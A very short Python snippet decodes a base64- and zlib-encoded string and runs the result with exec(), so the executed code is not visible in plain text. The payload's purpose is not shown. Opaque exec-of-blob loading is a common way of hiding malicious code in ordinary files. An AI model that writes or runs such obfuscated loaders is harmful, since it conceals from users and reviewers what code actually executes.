import base64
import zlib

_blob = "eJwrzkgsyVEoSy0qzszPUzA0MjYBAFXvB6k="
exec(zlib.decompress(base64.b64decode(_blob)))
